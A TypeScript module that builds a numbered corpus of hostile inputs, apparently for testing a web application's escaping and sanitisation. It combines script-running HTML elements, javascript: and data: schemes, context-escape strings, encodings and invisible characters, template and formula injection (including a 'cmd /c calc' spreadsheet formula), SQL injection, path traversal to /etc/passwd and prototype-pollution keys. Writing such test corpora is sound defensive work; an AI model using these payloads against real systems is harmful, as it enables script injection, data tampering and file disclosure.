/**
 * Texts that become script, markup or a request where a program takes them for more than text. Made here by combining tags,
 * handlers, ways out of a context, encodings and hidden characters; no list of others was copied. The same every time.
 * Each calls `ran(№)` with its own number for `№`, so that a page can tell which of them ran.
 */

const CALLS = ['ran(№)', 'self["ran"](№)', 'top.ran(№)', 'ran`№`', 'alert(№)', 'fetch("https://example.org/№")', 'location="https://example.org/№"', 'setTimeout("ran(№)")', 'window.open("https://example.org/№")'] as const;

/** Elements that run a handler by themselves, or when they are met; `J` is the code. */
const ELEMENTS = [
  '<img src=x onerror=J>', '<img src="x" onerror="J">', "<img src='x' onerror='J'>", '<svg onload=J>', '<svg/onload=J>', '<body onload=J>', '<input autofocus onfocus=J>', '<select autofocus onfocus=J>', '<textarea autofocus onfocus=J>',
  '<details open ontoggle=J>', '<video src=x onerror=J>', '<audio src=x onerror=J>', '<video><source onerror=J>', '<iframe onload=J>', '<object data=x onerror=J>', '<embed src=x onload=J>', '<marquee onstart=J>',
  '<style onload=J></style>', '<link rel=stylesheet href=x onerror=J>', '<script>J</script>', '<script src="data:text/javascript,J"></script>', '<script type=module>J</script>', '<iframe srcdoc="<script>parent.ran(№)</script>">',
  '<iframe src="javascript:J">', '<a href="javascript:J" autofocus onfocus=J>x</a>', '<form action="javascript:J"><button autofocus onfocus=J>x</form>', '<isindex action="javascript:J" type=image>', '<math href="javascript:J">x</math>',
  '<svg><script>J</script></svg>', '<svg><animate onbegin=J attributeName=x dur=1s>', '<svg><set onbegin=J attributeName=x>', '<svg><use href="data:image/svg+xml,<svg onload=J>">', '<svg><foreignObject><body onload=J></foreignObject></svg>',
  '<div onpointerover=J style="position:fixed;inset:0">x</div>', '<div contenteditable autofocus onfocus=J tabindex=1>x</div>', '<x-child onfocus=J tabindex=1 autofocus>', '<meta http-equiv=refresh content="0;url=javascript:J">', '<meta http-equiv=refresh content="0;url=https://example.org/№">',
  '<base href="https://example.org/№/">', '<img src="https://example.org/№.png">', '<link rel=preload as=image href="https://example.org/№.png">', '<style>@import "https://example.org/№.css";</style>', '<div style="background:url(https://example.org/№.png)">', '<table background="https://example.org/№.png">',
  '<template><img src=x onerror=J></template>', '<noscript><img src=x onerror=J></noscript>', '<dialog open><img src=x onerror=J></dialog>', '<button popovertarget=x onbeforetoggle=J>x</button><div popover id=x>', '<portal src="https://example.org/№">', '<object data="data:text/html,<script>parent.ran(№)</script>"></object>',
] as const;
/** Ways out of the place a text was put into. */
const EXITS = ['', '">', "'>", '-->', '</textarea>', '</title>', '</style>', '</script>', ']]>', '</svg>', '`}', '"}]}', '\\">', '</select></option>', '<!--', '<![CDATA['] as const;

const encodings: readonly ((text: string) => string)[] = [
  (text) => text, (text) => text.toUpperCase().replaceAll('RAN(', 'ran('), (text) => text.replaceAll(' ', '/'), (text) => text.replaceAll(' ', '\t'), (text) => text.replaceAll(' ', '\n'), (text) => text.replaceAll(' ', '\f'),
  (text) => text.replaceAll('<', '<\u0000'), (text) => [...text].map((sign) => `&#${String(sign.codePointAt(0))};`).join(''), (text) => [...text].map((sign) => `&#x${(sign.codePointAt(0) ?? 0).toString(16)}`).join(''),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), encodeURIComponent, (text) => encodeURIComponent(encodeURIComponent(text)), (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'), (text) => text.replaceAll('<', '\\x3c'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'), (text) => text.replaceAll('<', '‹').replaceAll('>', '›'), (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'), (text) => text.replaceAll('script', 'scr\u200bipt').replaceAll('on', 'o\u200dn'),
  (text) => `\u202e${text}`, (text) => `\u2066${text}\u2069`, (text) => text.replaceAll('=', '\u00a0='), (text) => `${text}${text}`, (text) => text.replaceAll('<', '<<'), (text) => text.replaceAll('>', ''), (text) => text.replaceAll('"', '&quot;').replaceAll("'", '&apos;'),
];

const SCHEMES = ['javascript:ran(№)', 'JaVaScRiPt:ran(№)', 'java\tscript:ran(№)', 'java\nscript:ran(№)', '\u0001javascript:ran(№)', '&#106;avascript:ran(№)', 'javascript&colon;ran(№)', 'vbscript:ran(№)', 'data:text/html,<script>ran(№)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'blob:https://example.org/№', 'file:///etc/passwd', '//example.org/№', '\\\\example.org\\№', 'app://bundle/index.html?№', 'mailto:№@example.org', 'tel:+380670000001', 'ms-settings:№', 'search-ms:query=№'] as const;
/** Languages of templates, of tables and of the typesetter. */
const TEMPLATES = [
  '{{constructor.constructor("ran(№)")()}}', '{{№*№}}', '${ran(№)}', '#{ran(№)}', '<%= ran(№) %>', '{% ran(№) %}', '[[ran(№)]]', '@{ran(№)}', '$t(common.cancel)', '$t(case.save, {"x": №})', '{{count}}', '{{- child.surname}}', '%s%n%x №', '%00№', '../../../../etc/passwd', "'; DROP TABLE cases; -- №", "' OR №=№ --", '" OR ""="№', '*" OR name:"№', 'NEAR(a b, №)',
  '#eval("ran(№)")', '#read("/etc/passwd")', '#include "/etc/passwd"', '#image("https://example.org/№.png")', '#link("javascript:ran(№)")[x]', '#import "@preview/x:0.1.0": *', '$ sum_(k=1)^№ k $', '@label-№', '<label-№>', '#panic("№")', '#{ while true {} }', '#metadata("№")', '\\u{41}\\№', '*№* _N_ `№`', '= №', '- №', '/ №: x', '// №', '/* № */', '#let x = №', '#show: it => []',
  '=ran(№)', '=HYPERLINK("https://example.org/№")', '=cmd|"/c calc"!A1', '+№', '@SUM(№)', '{"__proto__":{"x":№}}', '__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', 'true', '0', '-1', '\\', '"', "'", '`', '<', '&', '&amp;', '&lt;b&gt;№', '№\u0000№', '\ud83d\ude00№', '№\u0301\u0302\u0303\u0304\u0305', '\u202e№\u202c', '\u2067№\u2069', '\ufeff№', '\u2028№\u2029', 'ﷺ№',
] as const;

/** All of them, numbered from 0. Every encoding meets every element; calls and exits go round. */
export function hostileMarkup(): readonly string[] {
  const elements = ELEMENTS.flatMap((element, row) => encodings.map((encode, column) => {
    const exit = EXITS[(row * 5 + column * 3) % EXITS.length] ?? '';
    const plain = column === 0 || column === 3 ? 'ran(№)' : CALLS[(row + column) % CALLS.length] ?? 'ran(№)';
    return encode(`${column === 0 ? '' : exit}${element.replaceAll('J', plain)}`);
  }));
  const exits = EXITS.flatMap((exit) => ELEMENTS.slice(0, 12).map((element) => `${exit}${element.replaceAll('J', 'ran(№)')}`));
  const attributes = ['" onfocus="ran(№)" autofocus="', "' onmouseover='ran(№)", '" style="background:url(https://example.org/№)', '`onerror=`ran(№)', 'x" href="javascript:ran(№)', '" srcdoc="<script>ran(№)</script>'];
  return [...elements, ...exits, ...SCHEMES, ...attributes, ...TEMPLATES].map((text, index) => text.replaceAll('№', String(index)));
}
